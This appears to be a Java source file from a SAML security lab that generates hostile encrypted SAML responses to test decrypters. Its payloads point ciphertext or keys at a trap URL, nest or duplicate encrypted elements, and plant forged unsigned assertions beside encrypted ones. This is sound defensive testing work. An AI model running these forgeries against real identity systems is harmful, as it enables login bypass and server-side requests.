package io.dovetail.lab.idp.attack;

import io.dovetail.lab.idp.AttackScene;
import io.dovetail.lab.idp.KeyPlace;
import io.dovetail.lab.idp.ResponseFactory;
import io.dovetail.lab.idp.SignedParts;
import io.dovetail.lab.idp.xml.Names;
import io.dovetail.lab.idp.xml.Xml;
import java.util.Base64;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/** security.md A, B10 and "Around OpenSAML 4.0.1": what a decrypter might follow, count or believe. */
public final class DecrypterAttacks {

    private static final String BASE64 = "http://www.w3.org/2000/09/xmldsig#base64";
    private static final String ENCRYPTED_KEY = "http://www.w3.org/2001/04/xmlenc#EncryptedKey";

    private DecrypterAttacks() {}

    /** B10: the ciphertext is said to lie at an address; {@code owner} is EncryptedData or EncryptedKey. */
    public static Recipe cipherReference(String owner) {
        return scene -> EncryptionAttacks.signed(
                scene,
                scene.encryption(),
                encrypted -> replaceByReference(encrypted, owner, scene.trap().toString()));
    }

    /** B10: the ciphertext lies elsewhere in the document, and a transform leads to it. */
    public static String cipherReferenceWithTransform(AttackScene scene) {
        Hostile hostile = EncryptionAttacks.encrypted(scene, scene.encryption(), unchanged -> {});
        Element encrypted = encryptedAssertion(hostile);
        Element elsewhere = Xml.append(
                hostile.extensions(),
                DocumentAttacks.FOREIGN,
                "foreign:Ciphertext",
                EncryptionAttacks.cipherValue(encrypted, "EncryptedData").getTextContent());
        Hostile.renamed(elsewhere);
        Element reference = replaceByReference(encrypted, "EncryptedData", "#" + elsewhere.getAttribute("ID"));
        Element transforms = Xml.append(reference, Names.XENC, "xenc:Transforms");
        Xml.append(transforms, Names.DS, "ds:Transform").setAttribute("Algorithm", BASE64);
        return hostile.sign(SignedParts.RESPONSE).encoded();
    }

    /** B10: the key is said to lie at an address, though it stands here too. */
    public static String retrievalMethod(AttackScene scene) {
        return EncryptionAttacks.signed(scene, scene.encryption().withKeyPlace(KeyPlace.INSIDE), encrypted -> {
            Element key = Xml.descendants(encrypted, Names.XENC, "EncryptedKey").get(0);
            Element method = Xml.append(key.getParentNode(), Names.DS, "ds:RetrievalMethod");
            method.setAttribute("URI", scene.trap().toString());
            method.setAttribute("Type", ENCRYPTED_KEY);
            key.getParentNode().insertBefore(method, key);
        });
    }

    /** B10: a second EncryptedKey that holds another key. */
    public static String severalKeys(AttackScene scene) {
        return EncryptionAttacks.signed(scene, scene.encryption(), encrypted -> {
            Hostile other = EncryptionAttacks.encrypted(scene, scene.encryption(), unchanged -> {});
            Element key = Xml.descendants(other.document(), Names.XENC, "EncryptedKey")
                    .get(0);
            encrypted.appendChild(encrypted.getOwnerDocument().importNode(key, true));
        });
    }

    /** B10: what is encrypted is no Assertion, but has a signed one inside. */
    public static String notAnAssertion(AttackScene scene) {
        Hostile hostile = Hostile.signed(scene, SignedParts.ASSERTION);
        Element assertion = hostile.assertion();
        Element evidence = Xml.append(hostile.response(), Names.SAML, "saml:Evidence");
        evidence.setAttributeNS(Names.XMLNS, "xmlns:saml", Names.SAML);
        evidence.appendChild(assertion);
        encrypt(scene, evidence);
        return hostile.sign(SignedParts.RESPONSE).encoded();
    }

    /** B10: an EncryptedAssertion in an EncryptedAssertion. */
    public static String nested(AttackScene scene) {
        Hostile hostile = EncryptionAttacks.encrypted(scene, scene.encryption(), unchanged -> {});
        encrypt(scene, encryptedAssertion(hostile));
        return hostile.sign(SignedParts.RESPONSE).encoded();
    }

    /** A9: a forged unsigned Assertion in the open, before the encrypted one. */
    public static String plainAssertionFirst(AttackScene scene) {
        return encryptedOriginal(Hostile.signed(scene, SignedParts.ASSERTION), true);
    }

    /** A9: the same after it. */
    public static String plainAssertionLast(AttackScene scene) {
        return encryptedOriginal(Hostile.signed(scene, SignedParts.ASSERTION), false);
    }

    /** A wrapping whose every Assertion under the Response is encrypted. */
    public static Recipe encrypted(Recipe wrapping) {
        return scene -> {
            Document document = Xml.parse(Base64.getDecoder().decode(wrapping.make(scene)));
            for (Element child : Xml.children(document.getDocumentElement())) {
                if (child.getLocalName().equals("Assertion")) {
                    encrypt(scene, child);
                }
            }
            return ResponseFactory.encode(document);
        };
    }

    private static String encryptedOriginal(Hostile hostile, boolean forgedFirst) {
        Element original = hostile.assertion();
        Element forged = Hostile.forgedCopy(original);
        Element encrypted = encrypt(hostile.scene(), original);
        hostile.response().insertBefore(forged, forgedFirst ? encrypted : null);
        return hostile.encoded();
    }

    private static Element encrypt(AttackScene scene, Element part) {
        return scene.encryption().encrypt(part, scene.honest().audience());
    }

    private static Element encryptedAssertion(Hostile hostile) {
        return Xml.requireChild(hostile.response(), Names.SAML, "EncryptedAssertion");
    }

    private static Element replaceByReference(Element encrypted, String owner, String uri) {
        Element value = EncryptionAttacks.cipherValue(encrypted, owner);
        Element reference = Xml.append(value.getParentNode(), Names.XENC, "xenc:CipherReference");
        reference.setAttribute("URI", uri);
        Xml.remove(value);
        return reference;
    }
}
